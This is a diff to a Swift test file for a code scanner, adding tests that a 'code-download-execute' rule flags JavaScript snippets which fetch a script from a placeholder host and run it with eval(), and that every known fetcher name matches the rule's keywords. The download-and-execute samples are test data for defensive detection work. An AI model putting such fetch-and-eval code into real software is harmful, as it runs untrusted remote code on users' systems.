@@ -1,5 +1,5 @@
 import SkillScanCore
-import SkillScanRules
+@testable import SkillScanRules
 import SkillScanTestSupport
 import Testing
 
@@ -179,5 +179,28 @@ extension RuleBehaviourTests {
     let elapsed = ContinuousClock.now - start
     #expect(outcome.findings.map(\.line) == [3], "the download's chain still runs it")
     #expect(elapsed < .seconds(20), "2 MB of chain took \(elapsed)")
+  }
+}
+
+extension RuleBehaviourTests {
+  /// The engine skips a rule on a file holding none of its keywords, so every fetcher the
+  /// rule knows must open its gate.
+  @Test("Downloads by any known fetcher reach the rule", arguments: [
+    "require('https').get('https://x.example-bin.io/p.js', (r) => {\n  let s = '';\n  eval(s);\n});\n",
+    "const got = require('got');\nconst body = await got('https://x.example-bin.io/p.js').text();\neval(body);\n",
+  ])
+  func everyFetcherOpensTheGate(_ code: String) throws {
+    #expect(try !findings("code-download-execute", Example(code, language: .javascript)).isEmpty)
+  }
+}
+
+extension RuleBehaviourTests {
+  @Test("Every fetcher code-download-execute knows, written as a call, holds one of its keywords")
+  func fetchersOpenTheGate() throws {
+    let keywords = try #require(BuiltInRules.description(of: "code-download-execute")).keywords
+    for fetcher in CodeDownloadExecuteRule.pythonFetchers.union(CodeDownloadExecuteRule.jsFetchers) {
+      let call = (fetcher + "(url)").lowercased()
+      #expect(keywords.contains { call.contains($0) }, "\(fetcher) never opens the rule's gate")
+    }
   }
 }
